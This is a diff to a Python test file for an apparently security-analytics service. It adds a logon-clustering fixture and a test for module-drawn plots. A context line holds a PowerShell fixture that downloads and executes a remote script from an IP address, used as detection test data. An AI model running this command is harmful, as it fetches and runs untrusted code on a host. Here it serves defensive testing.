@@ -56,6 +56,7 @@ PROCESSES = csv_of(
     ]
 )
 COMMANDS = csv_of([{"host": "h", "line": "powershell iwr http://203.0.113.5/a.ps1 | iex"}])
+LOGONS = csv_of([{"user": f"u{n % 4}", "logon_type": str(n % 2)} for n in range(40)])
 EVENTS = csv_of([{"_time": 1_780_000_000, "text": samples.HOSTILE}])
 
 
@@ -64,6 +65,7 @@ EVENTS = csv_of([{"_time": 1_780_000_000, "text": samples.HOSTILE}])
     [
         ("timeseries_anomaly", HOURS, {}),
         ("outliers", NUMBERS, {}),
+        ("event_clusters", LOGONS, {"names": "logon_type", "accounts": "user"}),
         ("rare_sessions", SESSIONS, {"event": "command", "by": "user"}),
         ("process_tree", PROCESSES, {}),
         ("beaconing", CONNECTIONS, {}),
@@ -83,6 +85,23 @@ def test_model_draws_a_picture_that_its_result_links_to(
     assert status == 200
     assert "<script>alert" not in page
     assert service.request(answer["graphics"]["image"], authorization=None)[0] == 200
+
+
+def test_module_says_by_itself_what_to_draw(service: RunningService) -> None:
+    service.module(
+        "painter",
+        """
+        def init(df, param): return {}
+        def fit(model, df, param): pass
+        def apply(model, df, param): return df
+        def save(model, name): return model
+        def plot(model, df, result, param):
+            from app import pictures
+            return [pictures.scatter(df, "a", "b", title="My own")]
+        """,
+    )
+    answer = service.fit("a,b\n1,2\n", "painter", "own", params=_PLOT)
+    assert "My own" in service.request(answer["graphics"]["page"])[1]
 
 
 def test_summary_links_to_the_last_picture(service: RunningService) -> None:
